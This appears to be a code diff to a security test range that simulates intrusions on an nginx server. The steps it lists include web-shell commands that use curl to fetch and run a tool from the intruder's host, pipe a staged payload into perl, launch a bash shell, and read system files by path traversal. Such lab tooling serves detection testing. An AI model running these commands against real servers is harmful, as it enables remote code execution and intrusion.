@@ -11,7 +11,7 @@ from baseline.demo.service import Step
 from ranges.intruder import Intruder
 from ranges.target import Target, require, signal_main
 
-_BACKUP = "gzip -c access.log.1 > access.log.1.gz; find . -name '*.gz' -mmin +60 -delete"
+_BACKUP = "gzip -c access.log.1 > access.log.1.gz && find . -name '*.gz' -mmin +60 -delete"
 
 
 class NginxTarget(Target[Nginx]):
@@ -37,8 +37,7 @@ class NginxTarget(Target[Nginx]):
         signal_main(self, signal.SIGUSR1)
 
     def _cron(self, job: str) -> None:
-        folder = self.server.folder
-        self.server.cgroup.run(["/bin/sh", "-c", job], cwd=folder)
+        self.run_inside(["/bin/sh", "-c", job], cwd=self.server.folder)
 
     def ways_in(self, intruder: Intruder) -> Sequence[Step]:
         """All of it through the page."""
@@ -49,14 +48,14 @@ class NginxTarget(Target[Nginx]):
             Step(
                 "a web shell downloads a program and runs it",
                 lambda: self._run(
-                    f"curl -s -o {tool} {intruder.tool}; chmod +x {tool}; {tool} x; id"
+                    f"curl -s -o {tool} {intruder.tool} && chmod +x {tool} && {tool} x && id"
                 ),
             ),
             Step(
                 "a web shell runs a program from memory",
                 lambda: self._run(f"curl -s {intruder.stage} | perl"),
             ),
-            Step("a web shell gives a bash away", lambda: self._run(f"id; bash -c '{bash}'")),
+            Step("a web shell gives a bash away", lambda: self._run(f"bash -c '{bash}' && id")),
             Step("the page shows a file of the system", self._traverse),
         )
 
